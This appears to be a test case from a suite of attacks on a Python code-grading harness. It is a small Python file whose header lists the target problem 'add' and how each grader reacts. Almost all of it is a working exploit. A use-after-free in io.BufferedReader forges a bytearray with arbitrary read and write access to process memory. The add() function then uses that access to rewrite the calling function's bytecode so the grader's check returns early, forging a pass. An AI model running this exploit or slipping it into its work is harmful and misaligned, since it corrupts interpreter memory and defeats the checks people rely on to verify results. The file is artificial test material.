# attack: reads and writes any address of its process, and makes the function that called it return at once
# problem: add
# strict: timed out | forbidden call | crashed
# reference: passed | crashed
# forgery: shared interpreter
import io
import struct
import sys


def memory():
    """All memory as one bytearray: a view of a freed buffer writes the pointers of a list that took its place."""
    kept = []

    class Raw(io.RawIOBase):
        def readinto(self, view):
            kept.append(view)
            return 0

        def readable(self):
            return True

    size = 1 << 15
    reader = io.BufferedReader(Raw(), size)
    reader.read(1)
    del reader
    victims = [[None] * (size // 8) for _ in range(64)]
    # the head of a bytearray: references, type, size, room, start, first byte, exports
    fake = struct.pack("nPnnPPn", 1 << 20, id(bytearray), (1 << 63) - 1, 0, 0, 0, 0)
    kept[0][:8] = struct.pack("P", id(fake) + bytes.__basicsize__ - 1)
    for victim in victims:
        if type(victim[0]) is bytearray:
            return victim[0], fake, victims
    return None, fake, victims


everything, *held = memory()


def add(a, b):
    caller = sys._getframe(1)
    code = caller.f_code
    if None in code.co_consts:
        start = id(code) + bytes(everything[id(code) : id(code) + sys.getsizeof(code)]).index(code._co_code_adaptive[:16])
        leave = bytes([100, code.co_consts.index(None), 83, 0])
        first, end = start + caller.f_lasti + 2, start + len(code.co_code)
        everything[first:end] = (leave * (end - first))[: end - first]
    return None
